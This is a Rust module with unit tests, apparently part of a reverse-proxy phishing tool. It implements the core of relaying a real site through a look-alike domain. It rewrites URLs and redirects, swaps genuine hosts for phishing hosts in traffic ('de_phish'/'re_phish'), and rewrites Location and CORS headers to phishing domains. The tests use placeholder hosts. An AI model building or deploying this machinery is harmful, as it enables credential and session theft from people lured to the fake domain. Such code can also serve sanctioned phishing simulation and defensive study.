//! URL-rewrite redirects (§4.6 steps 1-2) and host de-phish/re-phish
//! (§4.7 step 6, §4.8 step 6, §4.8 step 4 `Location`/ACAO rewriting).

use std::collections::HashMap;
use std::sync::OnceLock;

use regex::Regex;

use crate::config::proxy_config::UrlRewriteRule;

/// A pending redirect synthesized by a matched `rewrite-urls` rule: the
/// rewritten path to serve the 302 for, and the original path+query to
/// remember in the Session Store's `url-mapping` (§4.3, §4.6 step 2).
pub struct ForwardRewrite {
    pub redirect_to: String,
    pub mapping_path: String,
}

/// Applies the first `rewrite-urls` rule (host-scoped rules already carry
/// the global ones appended, §4.4) whose `find` matches `path`. Query
/// params are renamed per `query[]` and then narrowed to `filter[]` if
/// non-empty.
pub fn forward_rewrite(
    rules: &[UrlRewriteRule],
    path: &str,
    query: &HashMap<String, String>,
) -> Option<ForwardRewrite> {
    for rule in rules {
        if !rule.find.is_match(path) {
            continue;
        }

        let mut renamed: HashMap<String, String> = HashMap::new();
        for (k, v) in query {
            let mut key = k.clone();
            for rename in &rule.query {
                if rename.find == *k {
                    key = rename.replace.clone();
                    break;
                }
            }
            renamed.insert(key, v.clone());
        }

        if !rule.filter.is_empty() {
            renamed.retain(|k, _| rule.filter.contains(k));
        }

        let mut redirect_to = rule.find.replace(path, rule.replace.as_str()).into_owned();
        if !renamed.is_empty() {
            let qs: Vec<String> = renamed
                .iter()
                .map(|(k, v)| format!("{}={}", urlencode(k), urlencode(v)))
                .collect();
            redirect_to.push('?');
            redirect_to.push_str(&qs.join("&"));
        }

        return Some(ForwardRewrite {
            redirect_to,
            mapping_path: path.to_string(),
        });
    }
    None
}

fn urlencode(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

fn url_with_scheme_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"https?://([A-Za-z0-9._-]+(?::\d+)?)").unwrap())
}

fn bare_host_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"\b([A-Za-z0-9][A-Za-z0-9.-]*\.[A-Za-z]{2,})\b").unwrap())
}

/// Replaces every occurrence of a phishing host known to `host_map` (values)
/// with its corresponding upstream host (keys), scanning both `scheme://host`
/// and bare-host occurrences. Longer hosts are matched first so
/// `mail.example.com` never gets partially replaced as a substring of
/// a shorter entry.
pub fn de_phish(text: &str, host_map: &HashMap<String, String>) -> String {
    rewrite_hosts(text, &invert(host_map))
}

/// The response-side inverse of [`de_phish`]: replaces upstream hosts with
/// their phishing counterparts.
pub fn re_phish(text: &str, host_map: &HashMap<String, String>) -> String {
    rewrite_hosts(text, host_map)
}

/// `from_host -> to_host`, longest `from_host` checked first.
fn rewrite_hosts(text: &str, mapping: &HashMap<String, String>) -> String {
    if mapping.is_empty() {
        return text.to_string();
    }
    let mut ordered: Vec<(&String, &String)> = mapping.iter().collect();
    ordered.sort_by(|a, b| b.0.len().cmp(&a.0.len()));

    let mut out = url_with_scheme_re()
        .replace_all(text, |caps: &regex::Captures| {
            let full = caps.get(0).unwrap().as_str();
            let host = &caps[1];
            for (from, to) in &ordered {
                if host.eq_ignore_ascii_case(from) {
                    return full.replacen(host, to, 1);
                }
            }
            full.to_string()
        })
        .into_owned();

    out = bare_host_re()
        .replace_all(&out, |caps: &regex::Captures| {
            let host = &caps[0];
            for (from, to) in &ordered {
                if host.eq_ignore_ascii_case(from) {
                    return (*to).clone();
                }
            }
            host.to_string()
        })
        .into_owned();

    out
}

fn invert(map: &HashMap<String, String>) -> HashMap<String, String> {
    map.iter().map(|(k, v)| (v.clone(), k.clone())).collect()
}

/// `Location`/`Access-Control-Allow-Origin` single-host rewrite (§4.8 step
/// 4): exact match against `host_map` first, then longest-suffix subdomain
/// match (so `sub.upstream.example.com` still resolves via an entry for
/// `upstream.example.com`).
pub fn replace_host_with_phished(host: &str, host_map: &HashMap<String, String>) -> Option<String> {
    if let Some(phished) = host_map.get(host) {
        return Some(phished.clone());
    }

    let mut best: Option<(&str, &str)> = None;
    for (upstream, phished) in host_map {
        if host.ends_with(&format!(".{upstream}")) {
            if best.map(|(u, _)| upstream.len() > u.len()).unwrap_or(true) {
                best = Some((upstream, phished));
            }
        }
    }
    best.map(|(upstream, phished)| {
        let prefix_len = host.len() - upstream.len();
        format!("{}{}", &host[..prefix_len], phished)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::proxy_config::ProxyConfig;

    fn rule(yaml: &str) -> UrlRewriteRule {
        let cfg = ProxyConfig::compile(yaml).unwrap();
        cfg.host("upstream.example.com").unwrap().rules.rewrite_urls[0].clone()
    }

    #[test]
    fn forward_rewrite_renames_and_filters_query() {
        let yaml = r#"
version: "0.0"
hosts:
  "upstream.example.com":
    to: "phish.test"
    rewrite-urls:
      - find: "^/old-login$"
        replace: "/login"
        query:
          - find: u
            replace: user
        filter: [user]
"#;
        let r = rule(yaml);
        let mut query = HashMap::new();
        query.insert("u".to_string(), "alice".to_string());
        query.insert("extra".to_string(), "drop-me".to_string());

        let result = forward_rewrite(&[r], "/old-login", &query).unwrap();
        assert!(result.redirect_to.starts_with("/login?"));
        assert!(result.redirect_to.contains("user=alice"));
        assert!(!result.redirect_to.contains("extra"));
        assert_eq!(result.mapping_path, "/old-login");
    }

    #[test]
    fn de_phish_replaces_longest_host_first() {
        let mut host_map = HashMap::new();
        host_map.insert("login.upstream.example.com".to_string(), "login.phish.test".to_string());
        host_map.insert("upstream.example.com".to_string(), "phish.test".to_string());

        let body = "see https://login.phish.test/path and login.phish.test again";
        let out = de_phish(body, &host_map);
        assert!(out.contains("login.upstream.example.com"));
        assert!(!out.contains("login.phish.test"));
    }

    #[test]
    fn re_phish_is_inverse_of_de_phish() {
        let mut host_map = HashMap::new();
        host_map.insert("upstream.example.com".to_string(), "phish.test".to_string());

        let body = "https://upstream.example.com/login";
        let phished = re_phish(body, &host_map);
        assert!(phished.contains("phish.test"));

        let back = de_phish(&phished, &host_map);
        assert!(back.contains("upstream.example.com"));
    }

    #[test]
    fn replace_host_with_phished_prefers_exact_then_suffix() {
        let mut host_map = HashMap::new();
        host_map.insert("upstream.example.com".to_string(), "phish.test".to_string());

        assert_eq!(
            replace_host_with_phished("upstream.example.com", &host_map),
            Some("phish.test".to_string())
        );
        assert_eq!(
            replace_host_with_phished("cdn.upstream.example.com", &host_map),
            Some("cdn.phish.test".to_string())
        );
        assert_eq!(replace_host_with_phished("unrelated.test", &host_map), None);
    }
}
